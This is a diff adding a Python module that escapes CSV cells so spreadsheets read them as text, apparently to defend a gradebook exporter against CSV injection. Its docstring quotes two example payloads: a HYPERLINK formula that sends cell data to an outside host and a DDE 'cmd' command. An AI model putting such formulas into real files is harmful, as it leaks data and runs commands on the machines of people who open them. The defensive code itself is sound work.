@@ -1,0 +1,93 @@
+"""CSV cells a spreadsheet reads as text, never as a formula: the one rule every CSV irlab writes follows.
+
+Excel, LibreOffice Calc and Google Sheets read a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula,
+and some read one that begins with a tab or a carriage return the same way; a student id, name, e-mail or answer
+such as ``=HYPERLINK("http://x/?"&A1,"x")`` or ``=cmd|' /C calc'!A0`` would run when the teacher opens the
+gradebook. OWASP's rule ("CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection) is to prefix
+such a cell with an apostrophe, which a spreadsheet takes as "this cell is text" and does not show.
+
+The rule, in :func:`safe_cell`:
+
+* a cell that is exactly a number (``3``, ``-0.5``, ``+2``, ``1e-05``, spaces around allowed) is written as it
+  is: a spreadsheet reads it as that number, so a negative score stays a number;
+* any other cell whose first character is a control character (tab, carriage return, line feed, NUL…) or whose
+  first visible character is ``=``, ``+``, ``-`` or ``@`` (or their full-width forms ``＝＋－＠``, to be safe) is
+  prefixed with ``'``: ``-1+2``, ``-1/3``, ``=1+2``, ``@SUM(A1)``, ``+A1``, a leading tab;
+* every other cell is written unchanged.
+
+OWASP also warns that a field separator inside a cell can start a new cell there. A spreadsheet in a
+decimal-comma locale reads a comma-separated file split at every ``;`` (and honours a quote only at the start of
+a cell), a tab-separated reading splits at tabs, and a reading that does not honour quotes starts a row at every
+line break. So what follows a ``;``, a tab, a carriage return or a line feed inside a cell is checked like the
+start of a cell and gets the apostrophe when it starts with ``=``, ``+``, ``-`` or ``@`` (``0.5;=1+2`` is
+written ``0.5;'=1+2``) — there even a negative number (``0.2; -0.5`` becomes ``0.2;' -0.5``: the apostrophe comes first in that cell), because in such a
+reading that cell runs on into the next ones. :class:`SafeWriter` also quotes a cell holding a carriage return
+(Python's ``csv`` module leaves it bare when lines end in ``\n``, and a spreadsheet starts a new row there).
+Any other row is written byte for byte as ``csv.writer(stream, lineterminator="\n")`` writes it.
+"""
+
+from __future__ import annotations
+
+import re
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+TEXT_MARK = "'"  # what a spreadsheet reads as "the rest is text"
+_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
+_LEADING_INVISIBLE = re.compile(r"[\s\x00-\x1f\x7f-\x9f]*")
+_INNER_CELL_STARTS = re.compile(r"([;\t\r\n])")  # where another reading of the file may start a cell
+_QUOTED_WHEN = (",", '"', "\n", "\r")
+
+
+def reads_as_formula(text: str) -> bool:
+    """Whether a spreadsheet could read the cell ``text`` as a formula (the rule in the module docstring)."""
+    if not text or _NUMBER.fullmatch(text.strip(" ")):
+        return False
+    return text[0] < " " or text[0] == "\x7f" or _starts_formula(text)
+
+
+def _starts_formula(text: str) -> bool:
+    return text[_LEADING_INVISIBLE.match(text).end():].startswith(FORMULA_STARTS)
+
+
+def safe_cell(value):
+    """The cell as a spreadsheet must see it: a number (int, float) unchanged, ``None`` as an empty cell, any
+    other value as text, with a ``'`` before a formula start at its beginning or after a ``;``, tab or line break
+    inside it."""
+    if value is None:
+        return ""
+    if isinstance(value, (int, float)) and not isinstance(value, bool):
+        return value
+    text = str(value)
+    if _INNER_CELL_STARTS.search(text):
+        parts = _INNER_CELL_STARTS.split(text)  # text, separator, text, separator, …
+        text = "".join(TEXT_MARK + part if index % 2 == 0 and index and _starts_formula(part) else part
+                       for index, part in enumerate(parts))
+    return TEXT_MARK + text if reads_as_formula(text) else text
+
+
+def _field(value) -> str:
+    text = str(value)
+    return '"' + text.replace('"', '""') + '"' if any(mark in text for mark in _QUOTED_WHEN) else text
+
+
+class SafeWriter:
+    """``csv.writer``'s ``writerow``/``writerows`` (comma-separated, lines ending in ``\\n``), every cell passed
+    through :func:`safe_cell` and quoted where a spreadsheet would otherwise split it."""
+
+    def __init__(self, stream):
+        self._write = stream.write
+
+    def writerow(self, row) -> None:
+        cells = [_field(safe_cell(value)) for value in row]
+        if cells == [""]:  # as csv.writer: a row of one empty field is written "" (else it reads as no row)
+            cells = ['""']
+        self._write(",".join(cells) + "\n")
+
+    def writerows(self, rows) -> None:
+        for row in rows:
+            self.writerow(row)
+
+
+def writer(stream) -> SafeWriter:
+    """A CSV writer for ``stream`` whose cells a spreadsheet reads as text or numbers, never as formulas."""
+    return SafeWriter(stream)
